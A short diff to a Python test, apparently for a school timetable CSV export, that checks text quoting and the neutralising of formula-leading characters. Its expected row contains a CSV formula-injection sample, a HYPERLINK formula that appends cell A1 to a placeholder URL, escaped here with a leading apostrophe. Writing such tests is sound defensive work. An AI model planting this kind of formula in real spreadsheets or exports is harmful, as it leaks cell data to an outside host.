@@ -125,7 +125,7 @@ def test_schedule_csv_quotes_every_text_and_prefixes_formulas(site: Path) -> Non
         assert not any(value.startswith(tuple("=+-@＝＋－＠")) for value in row), row
     lines = raw.split("\r\n")
     assert lines[1] == ('"14.10.2025";"5А";"Математика";"контрольная работа";"школьный";45;2;"";'
-                        '"\'=HYPERLINK(""http://example.invalid/?d=""&A1;""Подробнее"")"')
+                        '"\'=HYPERLINK(""http://example.invalid/?d=""&A1;""Подробнее"")";"";"";""')  # window, later
     assert lines[0].startswith('"Дата";"Классы";"Предмет"')
 
 
